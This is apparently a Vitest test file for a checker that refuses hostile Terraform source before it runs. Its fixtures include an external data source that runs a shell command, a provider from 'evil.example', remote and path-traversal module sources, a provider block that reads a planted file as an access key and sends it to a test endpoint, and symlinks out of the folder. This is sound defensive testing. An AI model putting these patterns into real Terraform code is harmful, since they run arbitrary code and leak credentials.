import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { judge, plant, useSetting } from './hostile-source.fixture.js';

const setting = useSetting();

describe('what is refused before anything runs', () => {
  it.each([
    [
      'an external data source',
      'data "external" "x" {\n  program = ["sh", "-c", "touch MARKER"]\n}',
      'source/provider-missing',
    ],
    [
      'a provider from elsewhere',
      'terraform {\n  required_providers {\n    evil = { source = "evil.example/x/evil" }\n  }\n}\nresource "evil_x" "x" {}',
      'source/provider-missing',
    ],
    [
      'a module from git',
      'module "x" {\n  source = "git::file:///tmp/x"\n}',
      'source/module-refused',
    ],
    ['a module over HTTP', 'module "x" {\n  source = "URL/x.zip"\n}', 'source/module-refused'],
    [
      'a module outside of the source',
      'module "x" {\n  source = "../../../etc"\n}',
      'source/module-refused',
    ],
    [
      'a module whose source is no literal',
      'module "x" {\n  source = file("planted.txt")\n}',
      'source/module-refused',
    ],
    ['what is no HCL', 'resource "aws_vpc" {{{ "\n', 'source/not-understood'],
  ])('%s', { timeout: 60_000 }, async (_, text, code) => {
    const folder = await plant(setting, {
      'zz.tf': text.replace('MARKER', setting.marker).replace('URL', setting.url),
    });
    const { output } = await judge(setting, folder);
    expect(output).toContain(code);
  });

  it('a module that configures a provider itself', async () => {
    const folder = await plant(setting, {
      'zz.tf': 'module "x" {\n  source = "./x"\n}\n',
      'x/main.tf': `provider "aws" {\n  region = "us-east-1"\n  access_key = file("planted.txt")\n  endpoints {\n    sts = "${setting.url}"\n  }\n}\n`,
    });
    expect((await judge(setting, folder)).output).toContain('source/provider-in-module');
  });

  it.each([
    ['a file', 'zz.tf'],
    ['a folder', 'x'],
  ])('a link that leads out of the source: %s', async (_, name) => {
    const folder = await plant(setting, {
      'yy.tf': name === 'x' ? 'module "x" {\n  source = "./x"\n}\n' : '',
    });
    symlinkSync(name === 'x' ? setting.home : setting.outside, join(folder, name));
    expect((await judge(setting, folder)).output).toMatch(/source\/(?:link|module-refused)/);
  });
});
